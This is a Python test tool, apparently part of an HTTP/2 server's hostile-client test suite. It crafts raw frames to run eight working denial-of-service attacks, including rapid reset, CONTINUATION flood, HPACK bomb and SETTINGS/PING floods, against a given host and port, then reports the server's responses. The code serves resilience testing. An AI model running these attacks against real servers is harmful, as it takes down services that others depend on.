#!/usr/bin/env python3
"""HTTP/2 abuse with raw frames, for tests/hostile_h2.rs (issue 20).

    h2_abuse.py HOST PORT ATTACK COUNT

Speaks cleartext HTTP/2 with prior knowledge, plays ATTACK (COUNT times where it repeats),
reads what the server sends for a bounded time and prints one JSON line:
{"goaway": error code or null, "resets": {code: n}, "answers": {status: n}, "closed": bool,
 "sent": frames sent before the server stopped taking them}.

Needs python3-h2 (hyperframe, hpack): .ci/run installs it.
"""

import json
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
DEADLINE = 20.0  # seconds: every run ends by then


def request_headers(method="GET", path="/", extra=()):
    return [
        (":method", method),
        (":scheme", "http"),
        (":authority", "localhost"),
        (":path", path),
    ] + list(extra)


class Conn:
    def __init__(self, host, port, settings=None):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sent = 0
        self.broken = False
        self.encoder = Encoder()
        self.send(PREFACE, count=False)
        self.frame(SettingsFrame(0, settings=settings or {}))

    def send(self, data, count=True):
        if self.broken:
            return False
        try:
            self.sock.sendall(data)
        except OSError:
            self.broken = True
            return False
        if count:
            self.sent += 1
        return True

    def frame(self, f):
        return self.send(f.serialize())

    def headers(self, stream, block, end_stream=True, end_headers=True):
        flags = set()
        if end_stream:
            flags.add("END_STREAM")
        if end_headers:
            flags.add("END_HEADERS")
        return self.frame(HeadersFrame(stream, data=block, flags=flags))

    def read_report(self, quiet):
        """Reads frames until the server closes, a GOAWAY, `quiet` seconds of silence or the
        deadline."""
        report = {"goaway": None, "resets": {}, "answers": {}, "closed": False, "sent": self.sent}
        buf = b""
        self.sock.settimeout(quiet)
        end = time.time() + DEADLINE
        while time.time() < end:
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                break
            except OSError:
                report["closed"] = True
                break
            if not chunk:
                report["closed"] = True
                break
            buf += chunk
            while len(buf) >= 9:
                f, length = Frame.parse_frame_header(memoryview(buf[:9]))
                if len(buf) < 9 + length:
                    break
                f.parse_body(memoryview(buf[9 : 9 + length]))
                buf = buf[9 + length :]
                if isinstance(f, GoAwayFrame):
                    report["goaway"] = f.error_code
                elif isinstance(f, RstStreamFrame):
                    key = str(f.error_code)
                    report["resets"][key] = report["resets"].get(key, 0) + 1
                elif isinstance(f, HeadersFrame):
                    status = _status(f.data)
                    if status:
                        report["answers"][status] = report["answers"].get(status, 0) + 1
                elif isinstance(f, SettingsFrame) and "ACK" not in f.flags:
                    self.frame(SettingsFrame(0, flags=["ACK"]))
        return report


def _status(block):
    from hpack import Decoder

    try:
        # A fresh decoder reads the first answer's `:status` (statically indexed or literal).
        for name, value in Decoder().decode(block):
            if name in (b":status", ":status"):
                return value.decode() if isinstance(value, bytes) else value
    except Exception:  # later answers may use the dynamic table: not needed here
        return "?"
    return None


def rapid_reset(c, n):
    for i in range(n):
        stream = 1 + 2 * i
        c.headers(stream, c.encoder.encode(request_headers()), end_stream=True)
        if not c.frame(RstStreamFrame(stream, error_code=CANCEL)):
            break


def continuation_flood(c, n):
    block = c.encoder.encode(request_headers())
    c.headers(1, block, end_stream=True, end_headers=False)
    filler = Encoder()
    for i in range(n):
        piece = filler.encode([("x-flood-%d" % i, "a" * 8000)], huffman=False)
        if not c.frame(ContinuationFrame(1, data=piece)):
            break


def hpack_bomb(c, n):
    # One 4 KiB value into the dynamic table, then blocks of one-byte references to it.
    first = c.encoder.encode(request_headers(extra=[("x-bomb", "b" * 4000)]))
    c.headers(1, first)
    index = bytes([0x80 | 62])  # the newest dynamic entry, indexed
    for i in range(n):
        block = c.encoder.encode(request_headers()) + index * 2000
        if not c.headers(3 + 2 * i, block):
            break


def settings_flood(c, n):
    for _ in range(n):
        if not c.frame(SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})):
            break


def ping_flood(c, n):
    for i in range(n):
        if not c.frame(PingFrame(0, opaque_data=i.to_bytes(8, "big"))):
            break


def empty_data(c, n):
    c.headers(1, c.encoder.encode(request_headers("POST", "/upload")), end_stream=False)
    for _ in range(n):
        if not c.frame(DataFrame(1, data=b"")):
            break
    c.frame(DataFrame(1, data=b"", flags=["END_STREAM"]))


def zero_window(c, n):
    # Every answer waits on a window of zero: the server holds at most one window's worth.
    for i in range(n):
        c.headers(1 + 2 * i, c.encoder.encode(request_headers(path="/files/big.bin")))


def many_streams(c, n):
    # Streams held open (no END_STREAM): the server refuses those past its limit.
    for i in range(n):
        block = c.encoder.encode(request_headers("POST", "/upload"))
        if not c.headers(1 + 2 * i, block, end_stream=False):
            break


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "settings_flood": settings_flood,
    "ping_flood": ping_flood,
    "empty_data": empty_data,
    "zero_window": zero_window,
    "many_streams": many_streams,
}


def main():
    host, port, attack, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0} if attack == "zero_window" else None
    c = Conn(host, port, settings)
    ATTACKS[attack](c, count)
    report = c.read_report(quiet=3.0)
    report["sent"] = c.sent
    print(json.dumps(report), flush=True)


if __name__ == "__main__":
    main()
